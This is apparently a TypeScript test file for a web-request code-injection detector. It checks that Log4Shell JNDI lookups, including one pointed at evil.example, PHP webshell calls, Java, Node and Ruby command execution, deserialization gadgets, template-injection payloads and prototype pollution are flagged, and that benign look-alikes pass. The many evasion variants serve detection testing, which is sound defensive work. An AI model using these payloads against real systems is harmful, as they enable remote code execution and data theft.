import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { variants } from "../decode.ts";
import { CODE_RULES, classifyCode, codeDetector } from "./code.ts";

// A guard against super-linear work, not a speed target (those live in bench/): linear code takes a
// few ms on 64 KiB here, quadratic work seconds; the bound leaves room for a loaded CI machine.
const SUPERLINEAR_GUARD_MS = 250;

/** Rules matched at paranoia `pl` or below over every decoded variant, as the engine runs them. */
const rulesAt = (value: string, pl = 1, name = "ARGS:q"): string[] => [
  ...new Set(
    variants(value).flatMap((v) =>
      codeDetector
        .inspect({ name, value: v })
        .filter((d) => d.paranoia <= pl)
        .map((d) => d.rule),
    ),
  ),
];

describe("codeDetector: attacks", () => {
  const attacks: [string, string][] = [
    // Log4Shell and its nested-lookup evasions
    ["${jndi:ldap://evil.example/a}", "code-jndi"],
    ["${jndi:rmi://1.2.3.4:1099/x}", "code-jndi"],
    ["${jndi:dns://x.example}", "code-jndi"],
    ["${JNDI:LDAP://x}", "code-jndi"],
    ["%24%7Bjndi%3Aldap%3A%2F%2Fx%7D", "code-jndi"],
    ["${${lower:j}ndi:ldap://x}", "code-jndi"],
    ["${${upper:j}${upper:n}${lower:d}i:rmi://x}", "code-jndi"],
    ["${${::-j}${::-n}${::-d}${::-i}:ldap://x}", "code-jndi"],
    ["${${env:NOPE:-j}ndi${env:NOPE:-:}ldap://x}", "code-jndi"],
    ["${${lower:${lower:j}}ndi:ldap://x}", "code-jndi"],
    ["${j${k8s:k5:-ND}i:ldap://x}", "code-jndi"],
    ["${${date:'j'}ndi:ldap://x}", "code-jndi"],
    ["Mozilla/5.0 ${ jndi:ldap://x}", "code-jndi"],
    // PHP
    ["<?php system($_GET['c']); ?>", "code-php"],
    ["<?PHP\necho 1;", "code-php"],
    ["<?=`id`?>", "code-php"],
    ["<?= $x ?>", "code-php"],
    ["system('id')", "code-php"],
    ['x;passthru("cat /etc/passwd");', "code-php"],
    ["shell_exec($_POST[x])", "code-php"],
    ["eval(base64_decode('ZWNobyAxOw=='))", "code-php"],
    ["@eval($_REQUEST['x'])", "code-php"],
    ["assert($_GET[a])", "code-php"],
    ["EVAL /**/ (gzinflate(x))", "code-php"],
    ["preg_replace('/.*/e', 'system(\"id\")', '')", "code-php"],
    ["phpinfo()", "code-php"],
    ["file_put_contents('s.php', $_POST['c'])", "code-php"],
    ["$a(1)", "code-php"],
    ["$__['o'](5)", "code-php"],
    ["${'a'}(11)", "code-php"],
    ["$GLOBALS['cf908275'](14)", "code-php"],
    ["@$__[o](4)", "code-php"],
    ["<?=1?>", "code-php"],
    ["system(whoami)", "code-php"],
    ["exec #comment\r\n (blah)", "code-php"],
    ["exec\t/*foo\r\nbar*/\t ($x)", "code-php"],
    ["pfsockopen('foo', 25)", "code-php"],
    ["posix_getpwuiD('foo', 25)", "code-php"],
    ["I don't like gzuncompress/*comment*/()", "code-php"],
    ["get_defined_vars()[0]", "code-php"],
    // Java
    ["java.lang.Runtime.getRuntime().exec('id')", "code-java"],
    ['new ProcessBuilder("id").start()', "code-java"],
    ["Class.forName('java.lang.Runtime')", "code-java"],
    ["(#_memberAccess=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)", "code-java"],
    ["java.lang.Runtime", "code-java"],
    ["<java.io.FileOutputStream>", "code-java"],
    ["java.ProcessBuilder", "code-java"],
    ["org.apache.commons.collections.functors.InvokerTransformer", "code-java"],
    ["ProcessBuilder.evil.whileclosure", "code-java"],
    ["com.sun.rowset.JdbcRowSetImpl", "code-java"],
    // Node.js
    ["require('child_process').exec('id')", "code-node"],
    ['require("child_process")', "code-node"],
    ["process.mainModule.require('fs')", "code-node"],
    ["global.process.exit()", "code-node"],
    ["this.constructor.constructor('return process')()", "code-node"],
    ["child_process.execSync('id')", "code-node"],
    ["require ( 'vm' ).runInNewContext(x)", "code-node"],
    ["this.constructor.constructor", "code-node"],
    ["#{require.main.constructor._load(foo).readdirSync(foo2)}", "code-node"],
    ['process["mainModule"]', "code-node"],
    ["{'get':'$3:constructor:constructor'}", "code-node"],
    ["eval(String.fromCharCode(97,108))", "code-php"],
    ['("system")("whoami")', "code-php"],
    ["'system'('id')", "code-php"],
    ["(system)(whoami)", "code-php"],
    ["<? echo 'hello'; ?>", "code-php"],
    ["${jndi:ldap://x}".replace("{", "&LBRACE;"), "code-jndi"],
    ["{\"rce\":\"_$$ND_FUNC$$_function(){require('child_process').exec('id')}()\"}", "code-deserialization"],
    ["XyQkTkRfRlVOQyQkXwo=", "code-deserialization"],
    ["while(true);", "code-node"],
    ["while(!![]);", "code-node"],
    ["while (new Date);", "code-node"],
    ["while(!'');", "code-node"],
    ["while(+Infinity);", "code-node"],
    ["d2hpbGUodHJ1ZSk7Cg==", "code-node"],
    ["@{[system 'id']}", "code-perl"],
    ['@{    [    system    "id"    ]    }', "code-perl"],
    // Prototype pollution in values
    ["__proto__[isAdmin]=true", "code-prototype-pollution"],
    ['{"__proto__":{"admin":true}}', "code-prototype-pollution"],
    ["a.__proto__.b=1", "code-prototype-pollution"],
    ["constructor.prototype.isAdmin=1", "code-prototype-pollution"],
    ["constructor[prototype][x]=1", "code-prototype-pollution"],
    ['{"constructor": {"prototype": {"x": 1}}}', "code-prototype-pollution"],
    ["%5F%5Fproto%5F%5F[x]=1", "code-prototype-pollution"],
    // Deserialisation
    ["rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA", "code-deserialization"],
    ["aced0005737200116a617661", "code-deserialization"],
    ["%ac%ed%00%05sr", "code-deserialization"],
    ['O:8:"stdClass":1:{s:1:"a";i:1;}', "code-deserialization"],
    ['a=O:4:"Evil":0:{}', "code-deserialization"],
    ['{"$type":"System.Windows.Data.ObjectDataProvider, PresentationFramework"}', "code-deserialization"],
    ['{"__type":"System.Configuration.Install.AssemblyInstaller"}', "code-deserialization"],
    ["cos\nsystem\n(S'id'\ntR.", "code-deserialization"],
    ["c__builtin__\neval\n", "code-deserialization"],
    ["!!python/object/apply:os.system ['id']", "code-deserialization"],
    [
      '!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["http://x/"]]]]',
      "code-deserialization",
    ],
    ["--- !ruby/object:Gem::Installer", "code-deserialization"],
    // Template injection
    ["{{7*7}}", "code-template-injection"],
    ["{{ 7*'7' }}", "code-template-injection"],
    ["${7*7}", "code-template-injection"],
    ["#{7*7}", "code-template-injection"],
    ["<%= 7*7 %>", "code-template-injection"],
    ["{{config}}", "code-template-injection"],
    ["{{config.__class__.__init__.__globals__['os'].popen('id').read()}}", "code-template-injection"],
    ["{{''.__class__.__mro__[1].__subclasses__()}}", "code-template-injection"],
    ["{{ ''|attr('\\x5f\\x5fclass\\x5f\\x5f') }}", "code-template-injection"],
    ["{{self._TemplateReference__context.cycler.__init__}}", "code-template-injection"],
    ["{{lipsum.__globals__.os.popen('id').read()}}", "code-template-injection"],
    ["${T(java.lang.Runtime).getRuntime().exec('id')}", "code-template-injection"],
    ["#{''.getClass().forName('java.lang.Runtime')}", "code-template-injection"],
    ["*{T(java.lang.Runtime).getRuntime().exec('id')}", "code-template-injection"],
    ["<%= system('id') %>", "code-template-injection"],
    ["<%= `id` %>", "code-template-injection"],
    ['<#assign ex="freemarker.template.utility.Execute"?new()>${ex("id")}', "code-template-injection"],
    ["#set($x='')#set($rt=$x.class.forName('java.lang.Runtime'))", "code-template-injection"],
    ["#set($s=$x.getClass())", "code-template-injection"],
    ["{{_self.env.registerUndefinedFilterCallback('exec')}}", "code-template-injection"],
    ["{{['id']|filter('system')}}", "code-template-injection"],
    ["{php}echo `id`;{/php}", "code-template-injection"],
    ["{% if True %}49{% endif %}", "code-template-injection"],
    ["<%= if True %>49<% endif %>", "code-template-injection"],
    ["%7B%7B7*7%7D%7D", "code-template-injection"],
    ["hello {{ {{7*7}}", "code-template-injection"],
  ];
  it.each(attacks)("%s → %s", (value, rule) => {
    expect(rulesAt(value)).toContain(rule);
  });

  it("prototype pollution in target names", () => {
    expect(
      codeDetector.inspect({ name: "ARGS_JSON_NAMES:__proto__.admin", value: "true" }).map((d) => d.rule),
    ).toEqual(["code-prototype-pollution"]);
    expect(classifyCode("1", "ARGS_NAMES:constructor[prototype][admin]")).toEqual([
      "code-prototype-pollution",
    ]);
    expect(classifyCode("1", "ARGS_JSON_NAMES:constructor.prototype.admin")).toEqual([
      "code-prototype-pollution",
    ]);
    expect(classifyCode("1", "ARGS_JSON_NAMES:constructor")).toEqual([]);
    expect(classifyCode("1", "ARGS_JSON_NAMES:proto")).toEqual([]);
    expect(classifyCode("test", "ARGS:java.io.File")).toEqual(["code-java"]);
  });

  it("leaves stream wrappers to the LFI detector", () => {
    expect(rulesAt("php://input")).toEqual([]);
  });

  it("reports PL2 rules only at PL2", () => {
    expect(rulesAt("{{1+1}}")).toEqual([]);
    expect(rulesAt("{{1+1}}", 2)).toContain("code-template-expression");
    expect(rulesAt("${9-2}", 2)).toContain("code-template-expression");
  });

  it("tags and severities come from the rule table", () => {
    const [d] = codeDetector.inspect({ name: "ARGS:q", value: "${jndi:ldap://x/a}" });
    expect(d).toEqual({
      rule: "code-jndi",
      tags: ["attack-injection-java", "log4shell"],
      paranoia: 1,
      severity: "critical",
      target: "ARGS:q",
    });
    for (const r of Object.values(CODE_RULES)) {
      expect([1, 2, 3]).toContain(r.paranoia);
      expect(r.tags.length).toBeGreaterThan(0);
    }
  });
});

describe("codeDetector: PHP functions, superglobals, php.ini, uploads", () => {
  const attacks: [string, string][] = [
    // open tags in other dress
    ["<?xml :echo 1;", "code-php"],
    ["<?xml\t:fputcsv($f, array('a'));", "code-php"],
    ["<?xml   (); echo 1;", "code-php"],
    ["test<?", "code-php"],
    ["[php]echo 'x';[/php]", "code-php"],
    ["echo 1;[/PHP]", "code-php"],
    // variable variables and built names
    ["${'ff'}", "code-php"],
    ["$ {'a'.'b'}", "code-php"],
    ["$      {$a}", "code-php"],
    ["$ { CONSTANT }", "code-php"],
    ["${@_.__}(31);", "code-php"],
    ["$__[$_[1]](7)", "code-php"],
    ["$OOO0000O0 (16)", "code-php"],
    ["$_aB_4c[@5]/*x*/[@d] ()", "code-php"],
    ["$a //x\n()", "code-php"],
    ["(sy.(st).em)('uname');", "code-php"],
    ['(string) "sys"."t"."em" (\'uname\');', "code-php"],
    ["(string){[system][0]}('uname');", "code-php"],
    ["[ system ] [ 0 ] ( ls );", "code-php"],
    ["(['system'])[0]('uname');", "code-php"],
    ["define('x', 'sys' . 'tem');(x)/* c */('uname');", "code-php"],
    ["$y = 'sys'.'tem';($y)('uname');", "code-php"],
    ["(sy.(st).em)(@id)", "code-php"],
    // built-in function calls
    ["base64_decode()", "code-php-function"],
    ["BASE64_DeCoDe(", "code-php-function"],
    ["curl_iNit()", "code-php-function"],
    ["Print_r( )", "code-php-function"],
    ["file_ExistS (\n\n)", "code-php-function"],
    ["chr(123)", "code-php-function"],
    ["FILE\r\n()", "code-php-function"],
    ["exec \t #\n ()", "code-php-function"],
    ["exec/*comment*/()", "code-php-function"],
    ["fopen  (blah)", "code-php-function"],
    ["unserialize(foo)", "code-php-function"],
    ["gethostbynamE(", "code-php-function"],
    ["touch($f);", "code-php-function"],
    ["%66%6f%70%65%6e%28%27x%27%29", "code-php-function"], // fopen('x')
    ["$x = base64_decode($input);", "code-php-function"],
    // superglobals and php.ini
    ["$_SERVER['test'];", "code-php-superglobal"],
    ["$_%53ERVER['x']", "code-php-superglobal"],
    ["$_S ERVER['REQUEST_URI'];", "code-php-superglobal"],
    ["$GLOBALS['a']", "code-php-superglobal"],
    ["allow_url_include=1", "code-php-ini"],
    ["memory_limit = 512M", "code-php-ini"],
    ["opcache.jit_max_polymorphic_calls=50", "code-php-ini"],
    ["auto_prepend_file=php://input", "code-php-ini"],
  ];
  it.each(attacks)("%s → %s", (value, rule) => {
    expect(rulesAt(value)).toContain(rule);
  });

  it("grades function calls by how word-like the name is", () => {
    expect(rulesAt("pg_enter_pipeline_mode (")).toEqual([]);
    expect(rulesAt("pg_enter_pipeline_mode (", 2)).toContain("code-php-extension-call");
    expect(rulesAt("ldap_get_entries()", 2)).toContain("code-php-extension-call");
    expect(rulesAt("sodium_add_to_recipe(foo)", 2)).toEqual([]); // an unknown name with a prose argument
    expect(rulesAt("crypt(abc)", 2)).toEqual([]);
    expect(rulesAt("crypt(abc)", 3)).toContain("code-php-word-call");
    expect(rulesAt("checkdate() is handy")).toEqual([]);
    expect(rulesAt("checkdate() is handy", 3)).toContain("code-php-word-call");
    expect(rulesAt("symlink\t()")).toContain("code-php-function"); // an empty call ending the value
  });

  it("reads upload file names from multipart parts and X-Filename headers", () => {
    const up = (value: string, name = "FILES_NAMES:file"): string[] => classifyCode(value, name);
    for (const v of [
      "a.php",
      "a.PHP5...",
      "shell.phtml",
      "x.phar ",
      "photo. php",
      "a/b/c.pht",
      "s.jsp",
      "s.jspx..",
    ])
      expect(up(v)).toContain("code-upload-script");
    expect(up("a.php", "REQUEST_HEADERS:x-filename")).toContain("code-upload-script");
    expect(up("a.php", "REQUEST_HEADERS:x_file_name")).toContain("code-upload-script");
    expect(up("sess_d8ew88tqmabdcokhumchy8htqm")).toContain("code-upload-script");
    expect(up("/tmp/SESS_abc123def456ghi789jkl", "REQUEST_HEADERS:x.filename")).toContain(
      "code-upload-script",
    );
    expect(up("test.php.jpg")).toEqual(["code-upload-double-extension"]);
    expect(up("test.phar .png")).toEqual(["code-upload-double-extension"]);
    expect(CODE_RULES["code-upload-double-extension"].paranoia).toBe(2);
    // ordinary uploads, and script names outside file-name targets
    for (const v of [
      "photo.jpg",
      "report.pdf",
      "php-guide.pdf",
      "my.photos.png",
      "sess_1.txt",
      "session.php.bak.zip",
    ])
      expect(up(v).filter((r) => r.startsWith("code-upload"))).toEqual(
        v === "session.php.bak.zip" ? ["code-upload-double-extension"] : [],
      );
    expect(up("a.php", "ARGS:file")).toEqual([]);
    expect(up("a.php", "REQUEST_HEADERS:referer")).toEqual([]);
  });

  it("reads cookie names as values (the engine's REQUEST_COOKIES_NAMES targets)", () => {
    const rules = (name: string): string[] =>
      codeDetector.inspect({ name: `REQUEST_COOKIES_NAMES:${name}`, value: name }).map((d) => d.rule);
    expect(rules("<?php phpinfo(); ?>")).toContain("code-php");
    expect(rules("@{[system 'id']}")).toContain("code-perl");
    expect(rules("java.Runtime")).toContain("code-java");
    expect(rules("session")).toEqual([]);
  });
});

describe("codeDetector: Java in base64 and odd package paths, Node and Ruby", () => {
  const b64 = (s: string, shift = 0): string =>
    Buffer.from("\0".repeat(shift) + s, "latin1")
      .toString("base64")
      .replace(/=+$/, "");
  it("finds Java's stream header at every byte alignment", () => {
    for (const shift of [0, 1, 2]) {
      const enc = b64("\xac\xed\x00\x05sr\x00\x11java.util.HashMap", shift);
      expect(rulesAt(enc, 2)).toContain(shift === 0 ? "code-deserialization" : "code-java-stream-base64");
      // inside a longer base64 run, at any char offset
      for (const lead of ["x", "xY", "xYz"])
        expect(rulesAt(lead + enc, 2)).toContain("code-java-stream-base64");
    }
    expect(rulesAt("test=KztAAU", 2)).toContain("code-java-stream-base64");
    expect(rulesAt("KztAAU", 1)).toContain("code-java-stream-base64");
    expect(rulesAt("aGVsbG8gd29ybGQsIHRoaXMgaXMgbm90IGphdmE=", 1)).toEqual([]);
  });

  it("finds process and gadget class names in base64 at PL3", () => {
    for (const word of ["runtime", "ProcessBuilder", "InvokerTransformer", "forclosure", "TemplatesImpl"])
      for (const shift of [0, 1, 2]) {
        const enc = b64(word, shift).slice(shift); // the filler's own chars cut away
        expect(rulesAt(enc, 3)).toContain("code-java-class-base64");
        expect(rulesAt(enc, 2)).not.toContain("code-java-class-base64");
      }
    // base64 of ordinary text, and words that are no base64
    expect(rulesAt(b64("hello world, this is fine"), 3)).toEqual([]);
    expect(rulesAt("RuntimeError", 3)).toEqual([]);
    expect(rulesAt("eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0", 3)).toEqual([]);
  });

  it("flags a process class under any java package at PL1", () => {
    expect(rulesAt("java.evil.runtime", 2)).toContain("code-java-class-path");
    expect(rulesAt("javax.foo.ProcessBuilder", 2)).toContain("code-java-class-path");
    expect(classifyCode("test", "REQUEST_COOKIES:java.evil.processbuilder")).toContain(
      "code-java-class-path",
    );
    expect(rulesAt("java.evil.runtime")).toContain("code-java-class-path");
    expect(rulesAt("java.runtime.version", 2)).toEqual([]);
    expect(rulesAt("javascript.evil.runtime", 2)).toEqual([]);
  });

  const node: [string, string][] = [
    ["eval(String.fromCharCode(97))", "code-node"],
    ["new Function (", "code-node"],
    ["function() {", "code-node"],
    ["module.exports=", "code-node"],
    ["process.env", "code-node"],
    ['process["env"]', "code-node"],
    ["process[req.query.a]", "code-node"],
    ["require[req.query.a]", "code-node"],
    ["console.info(1)", "code-node"],
    ["c\\u006fnsole.info(1)", "code-node"],
    ['console["info"](1)', "code-node"],
    ["console.log.call(this,1)", "code-node"],
    ['lol=require;x="child_process";lol(x).spawn("id")', "code-node"],
    ['{"0":"$7:Module:prototype","then":"$2:then"}', "code-node"],
    ['Process.spawn("id")', "code-ruby"],
    ["IO.popen('id').read", "code-ruby"],
    ["Kernel.exec('id')", "code-ruby"],
  ];
  it.each(node)("%s → %s", (value, rule) => {
    expect(rulesAt(value)).toContain(rule);
  });
});

describe("codeDetector: benign look-alikes at PL1", () => {
  const benign = [
    "Hello {{user.name}}, you have {{count}} new messages",
    "{{#each items}}<li>{{this}}</li>{{/each}}",
    "{{> header}} {{{body}}}",
    "Total: ${price} (incl. ${tax})",
    "`${a}-${b}`",
    "use the eval function carefully",
    "Never call eval() on user input in PHP",
    "The operating system (Linux) is fine",
    "an assert(x > 0) in the test",
    "decode the base64 payload first",
    "I never really liked C's assert() feature much",
    "print (color) and file (pdf) options",
    "count (3) and date (2024-01-01)",
    "range(1, 10)",
    "see system (default)",
    "const app = require('express')();",
    "db.exec('select 1')",
    '{"proto": "tcp", "constructor": "Acme Corp"}',
    "constructor",
    "the constructor's prototype chain",
    "the __proto__ property is deprecated",
    "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==",
    '<?xml version="1.0"?><a/>',
    "O'Brien",
    "Order no: 12*4 pieces",
    "c:\\users\\docs",
    "Email me @(work) please",
    "50% off <%= price %>",
    "{% if user %}Hi{% endif %}",
    "#{user.firstName}",
    "cost = 7*7",
    "system: ok",
    "The $type field names the shape",
    "java.util.List",
    "while (i < 10) i++;",
    "while(done)",
    "while(!true);",
    "while(0)",
    "while(!!'')",
    "jQuery: $('#id').hide(); $.ajax(url)",
    "Price: ${price} (incl. tax)",
    "see https://example.com/#top (home)",
    "the operating system (OS) and system(s)",
    "java.runtime.version=21",
    "the bank's forclosure notice",
    "process.env.NODE_ENV",
    "myfunction(){ echo hello }",
    "filemtime is the file's modification time",
    "array_diff is a PHP function",
    "Visit our $ 5 store",
    "costs $5 (five dollars)",
    "engine: V8, precision: high",
    "memory limit 512M",
    "<?xml version='1.0' encoding='utf-8'?>",
    '<?xml-stylesheet href="a.xsl"?>',
    "the child process exited",
    "console output",
    "(see the system)(2)",
    "[systems] [0] (ls)",
    "sess_id",
    "runtime",
    "javascript.runtime.version",
    "Order Rs 500 (Mumbai)",
    "Price in $USD (approx)",
    "=ROUND($B$2*1.2, 2)",
    "SELECT MAX(id), COUNT(*) FROM t",
    "from=2024-01-01",
  ];
  it.each(benign)("%s", (value) => {
    expect(rulesAt(value)).toEqual([]);
  });
});

describe("codeDetector: robustness", () => {
  it("never throws", () => {
    fc.assert(
      fc.property(fc.string({ maxLength: 300 }), fc.string({ maxLength: 40 }), (s, n) => {
        codeDetector.inspect({ name: n, value: s });
      }),
      { numRuns: 300 },
    );
    const alphabet = fc.constantFrom(
      "${",
      "}",
      "{{",
      "}}",
      "<?",
      "(",
      "'",
      "__proto__",
      "o:",
      ":",
      '"',
      "j",
      ":-",
      " ",
    );
    fc.assert(
      fc.property(fc.array(alphabet, { maxLength: 80 }), (parts) => {
        codeDetector.inspect({ name: "ARGS:x", value: parts.join("") });
      }),
      { numRuns: 300 },
    );
  });
  it("stays linear on adversarial input", () => {
    const units = [
      "${",
      "${a:-",
      "${${",
      "{{",
      "{{7*",
      "<?",
      "<?=",
      "system(",
      "eval((",
      "__proto__",
      "constructor.",
      'o:9:"',
      "$type",
      "#set(",
      "<#assign",
      "preg_replace('",
      "require('",
      "rO0AB",
      "/*",
      "<%",
      "@(",
      "a",
      "#",
      "$a[",
      "${'",
      "while(",
      "//x\n",
      "java.lang.",
      ":-}",
      "{%",
      "gzinflate/*",
      "exec /*",
      "&lbrace",
      "while(!",
    ];
    const inputs = units.map((u) => u.repeat(Math.ceil(65536 / u.length)).slice(0, 65536));
    for (const v of inputs) codeDetector.inspect({ name: "ARGS:x", value: v }); // warm-up
    for (const v of inputs) {
      // Best of three, so a busy machine does not fail the test; quadratic work would take seconds.
      let best = Infinity;
      for (let k = 0; k < 3; k++) {
        const t0 = performance.now();
        codeDetector.inspect({ name: "ARGS:x", value: v });
        best = Math.min(best, performance.now() - t0);
      }
      expect(best).toBeLessThan(SUPERLINEAR_GUARD_MS);
    }
  });
});
